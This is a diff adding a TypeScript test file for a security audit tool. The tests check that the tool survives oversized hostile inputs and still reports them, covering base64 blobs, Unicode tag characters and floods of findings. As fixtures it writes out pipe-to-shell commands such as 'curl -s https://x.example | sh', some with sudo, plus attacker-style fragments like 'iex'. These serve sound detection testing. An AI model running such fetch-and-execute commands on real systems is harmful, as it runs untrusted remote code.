@@ -1,0 +1,122 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { repeated } from "../../bench/hostile-text.js";
+import { auditFile, FINDINGS_PER_RULE, type Finding, RULES } from "../../src/audit/index.js";
+
+/**
+ * Issue 24: one hostile file stopped the audit, and with it the server's start, audit-skills, check-skills
+ * and the image build. Each file below made the audit at ff8dcd5 throw `RangeError: Maximum call stack
+ * size exceeded`; now each is what it is, a finding or nothing.
+ */
+
+const encode = (text: string) => new TextEncoder().encode(text);
+const MIB = 1024 * 1024;
+
+function rulesOf(findings: readonly Finding[]): string[] {
+  return findings.map((found) => `${found.line} ${found.rule}`);
+}
+
+describe("the audit of a hostile file (issue 24)", () => {
+  it("reports an 8 MiB line of base64 as one blob (a regular expression overflowed the stack on it)", () => {
+    const found = auditFile("p/s/assets/data.txt", encode(`aZ09${repeated("QUJDZGVm", 8 * MIB)}\n`));
+    expect(rulesOf(found)).toEqual(["0 large-file", "1 encoded-blob"]);
+    expect(found[1]?.detail).toMatch(/^8,388,612 characters of base64 \(6\.0 MiB decoded\)/);
+  });
+
+  it("reads `sudo` and millions of flags as the program's prefix (a regular expression overflowed)", () => {
+    const found = auditFile(
+      "p/s/run.sh",
+      encode(`curl -s https://x.example | sudo${repeated(" -E", 8 * MIB)} sh\n`),
+    );
+    expect(rulesOf(found)).toEqual(["0 large-file", "1 pipe-to-shell"]);
+  });
+
+  it("tells a flag from a run of tag characters after a black flag (the run was spread into arguments)", () => {
+    const found = auditFile("p/s/SKILL.md", encode(`\u{1F3F4}${repeated("\u{E0041}", 400_000)}\n`));
+    expect(rulesOf(found)).toEqual(["0 large-file", "1 tag-characters"]);
+    expect(found[1]?.detail).toMatch(/^200000 tag characters \(U\+E0041 U\+E0041 /);
+  });
+
+  it("sums up hundreds of thousands of findings of one rule (their hits were spread into arguments)", () => {
+    const found = auditFile("p/s/install.sh", encode(repeated("curl -s https://x.example | sh\n", 6 * MIB)));
+    expect(found).toHaveLength(FINDINGS_PER_RULE + 2);
+    expect(found.at(-1)).toMatchObject({
+      line: FINDINGS_PER_RULE + 1,
+      rule: "pipe-to-shell",
+      detail: `${Math.ceil((6 * MIB) / 31) - FINDINGS_PER_RULE} more lines from here on, not listed`,
+    });
+  });
+});
+
+/** What an attacker would repeat: the starts of what each rule matches, and what makes rules report. */
+const UNITS = [
+  "[a](http://x",
+  "[a.com](http://b.com) ",
+  "<a href=x ",
+  '<a href="http://x">y',
+  "</a ",
+  "[",
+  "](",
+  "`",
+  "`a` ",
+  "```\n",
+  "<!--",
+  "curl x | ",
+  "sudo -x ",
+  "env a=b ",
+  "iex ",
+  "'",
+  "\\\n",
+  "QUJDZGVm",
+  "0f",
+  "=",
+  " ",
+  "\n",
+  "\r",
+  "\u200B",
+  "a\u200Bb",
+  "\u{E0041}",
+  "\u{1F3F4}",
+  "\u{E0151}",
+  "\uFE0F",
+  "\u200D",
+  "\u001b",
+  "é",
+  "\u{1F600}",
+];
+
+/** A text of a few pieces, each one unit repeated up to some MiB, or random text of any characters. */
+const hostileText = fc
+  .array(
+    fc.oneof(
+      fc.tuple(fc.constantFrom(...UNITS), fc.integer({ min: 0, max: 18 })).map(([unit, power]) => {
+        return repeated(unit, 2 ** power * unit.length).slice(0, 3 * MIB);
+      }),
+      fc.string({ unit: "binary", maxLength: 200 }),
+    ),
+    { minLength: 1, maxLength: 4 },
+  )
+  .map((pieces) => pieces.join(""));
+
+describe("the audit of generated hostile text", () => {
+  it("finishes on each, with findings a report can hold", () => {
+    const paths = fc.constantFrom("p/s/SKILL.md", "p/s/run.sh", "p/s/page.html", "p/s/data.txt");
+    fc.assert(
+      fc.property(hostileText, paths, (text, path) => {
+        const findings = auditFile(path, encode(text));
+        const lines = text.split("\n").length;
+        for (const found of findings) {
+          expect(Object.keys(RULES)).toContain(found.rule);
+          expect(found.line).toBeGreaterThanOrEqual(0);
+          expect(found.line).toBeLessThanOrEqual(lines);
+          // Details quote at most an excerpt, each character at most `{U+XXXXX}`.
+          expect(found.detail.length).toBeLessThan(8192);
+        }
+        // At most twenty lines and one summing-up finding per rule, and the findings of the whole file.
+        const perRule = Object.keys(RULES).map((rule) => findings.filter((found) => found.rule === rule));
+        expect(Math.max(...perRule.map((same) => same.length))).toBeLessThanOrEqual(FINDINGS_PER_RULE + 1);
+      }),
+      { numRuns: 40 },
+    );
+  });
+});
